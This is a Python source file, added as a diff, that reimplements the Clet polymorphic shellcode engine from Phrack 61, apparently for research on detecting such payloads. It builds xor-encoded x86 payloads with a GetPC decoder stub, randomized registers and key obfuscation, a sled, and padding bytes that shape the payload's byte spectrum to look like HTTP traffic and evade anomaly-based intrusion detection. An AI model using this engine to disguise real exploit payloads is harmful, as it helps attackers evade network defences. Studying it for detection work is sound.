@@ -1,0 +1,168 @@
+"""Clet-style polymorphic engine (Phrack 61, the paper's §5.2).
+
+Clet's distinguishing feature over ADMmutate is *spectrum analysis
+evasion*: besides obscuring an xor-based decryption routine, it shapes the
+byte-frequency distribution of the final payload toward "normal traffic"
+by adding cramming bytes, so data-mining/anomaly IDSs score it as benign.
+The decoder remains an xor loop — which is why the paper's xor template
+matched all 100 Clet instances.
+
+Our implementation:
+
+- a dword-wide rolling xor decoder with per-instance register allocation
+  and key/length obfuscation (lighter junk than ADMmutate, like the real
+  tool);
+- spectrum shaping: padding drawn from a configurable target byte
+  distribution (default: an HTTP-ish printable-text profile) appended
+  after the encoded body until the instance's byte histogram approaches
+  the target (measured by total-variation distance).
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass, field
+
+import numpy as np
+
+from ..x86.asm import assemble
+
+__all__ = ["CletEngine", "CletPayload", "http_spectrum", "spectrum_distance"]
+
+
+def http_spectrum() -> np.ndarray:
+    """A plausible byte-frequency profile for web traffic: dominated by
+    lowercase letters, digits, and HTTP punctuation."""
+    weights = np.full(256, 0.05)
+    for b in range(ord("a"), ord("z") + 1):
+        weights[b] = 3.0
+    for b in range(ord("A"), ord("Z") + 1):
+        weights[b] = 1.0
+    for b in range(ord("0"), ord("9") + 1):
+        weights[b] = 1.5
+    for b in b" /.:=&?%-_\r\n<>\"'();,":
+        weights[b] = 2.0
+    return weights / weights.sum()
+
+
+def spectrum_distance(data: bytes, target: np.ndarray | None = None) -> float:
+    """Total-variation distance between the data's byte histogram and the
+    target spectrum (0 = identical distributions, 1 = disjoint)."""
+    if target is None:
+        target = http_spectrum()
+    if not data:
+        return 1.0
+    counts = np.bincount(np.frombuffer(data, dtype=np.uint8), minlength=256)
+    hist = counts / counts.sum()
+    return float(0.5 * np.abs(hist - target).sum())
+
+
+@dataclass
+class CletPayload:
+    """One Clet instance."""
+
+    data: bytes
+    key: int  # 32-bit rolling key
+    sled_len: int
+    cram_len: int
+    seed: int
+    source: str = field(repr=False, default="")
+
+    def __len__(self) -> int:
+        return len(self.data)
+
+
+class CletEngine:
+    """Generates spectrum-shaped xor-encoded instances."""
+
+    _PTRS = ["esi", "edi", "ebx"]
+
+    def __init__(
+        self,
+        seed: int = 0,
+        sled_range: tuple[int, int] = (16, 48),
+        target_spectrum: np.ndarray | None = None,
+        cram_factor: float = 1.5,
+    ) -> None:
+        self.seed = seed
+        self.sled_range = sled_range
+        self.target = target_spectrum if target_spectrum is not None else http_spectrum()
+        #: cramming bytes per payload byte — more cram, closer to target
+        self.cram_factor = cram_factor
+
+    def mutate(self, payload: bytes, instance: int = 0) -> CletPayload:
+        rng = random.Random((self.seed << 16) ^ instance)
+        key = rng.randrange(1, 1 << 32)
+
+        padded = payload + b"\x90" * (-len(payload) % 4)
+        words = np.frombuffer(padded, dtype="<u4")
+        encoded = (words ^ np.uint32(key)).astype("<u4").tobytes()
+
+        ptr = rng.choice(self._PTRS)
+        key_reg = rng.choice([r for r in ("eax", "edx", "ebx") if r != ptr])
+        n_words = len(padded) // 4
+
+        key_setup = self._key_setup(rng, key_reg, key)
+        count_setup = (f"mov ecx, {n_words}" if rng.random() < 0.5
+                       else f"push {n_words}\npop ecx")
+        source = f"""
+            jmp getpc
+        setup:
+            pop {ptr}
+            {key_setup}
+            {count_setup}
+        decode:
+            xor dword ptr [{ptr}], {key_reg}
+            add {ptr}, 4
+            loop decode
+            jmp payload
+        getpc:
+            call setup
+        payload:
+        """
+        decoder = assemble(source)
+        sled_len = rng.randrange(*self.sled_range)
+        sled = bytes(rng.choice((0x90, 0x41, 0x42, 0x4A, 0x4B))
+                     for _ in range(sled_len))  # alphanumeric-friendly sled
+        body = sled + decoder + encoded
+        cram = self._cram(rng, body)
+        return CletPayload(
+            data=body + cram,
+            key=key,
+            sled_len=sled_len,
+            cram_len=len(cram),
+            seed=instance,
+            source=source,
+        )
+
+    def batch(self, payload: bytes, count: int) -> list[CletPayload]:
+        return [self.mutate(payload, instance=i) for i in range(count)]
+
+    # -- internals --------------------------------------------------------------
+
+    def _key_setup(self, rng: random.Random, reg: str, key: int) -> str:
+        style = rng.randrange(3)
+        if style == 0:
+            return f"mov {reg}, {key:#x}"
+        if style == 1:
+            a = rng.randrange(1, 1 << 32)
+            return f"mov {reg}, {a:#x}\n    xor {reg}, {a ^ key:#x}"
+        a = rng.randrange(1, 1 << 31)
+        return f"mov {reg}, {a:#x}\n    add {reg}, {(key - a) & 0xFFFFFFFF:#x}"
+
+    def _cram(self, rng: random.Random, body: bytes) -> bytes:
+        """Sample padding so the combined histogram moves toward the target
+        spectrum.  Greedy: draw from the *deficit* distribution (target
+        minus what the body already has)."""
+        n = int(len(body) * self.cram_factor)
+        if n <= 0:
+            return b""
+        counts = np.bincount(np.frombuffer(body, dtype=np.uint8), minlength=256)
+        total = counts.sum() + n
+        want = self.target * total - counts
+        want = np.clip(want, 0, None)
+        if want.sum() == 0:
+            want = self.target.copy()
+        probs = want / want.sum()
+        gen = np.random.default_rng(rng.randrange(1 << 63))
+        return gen.choice(256, size=n, p=probs).astype(np.uint8).tobytes()
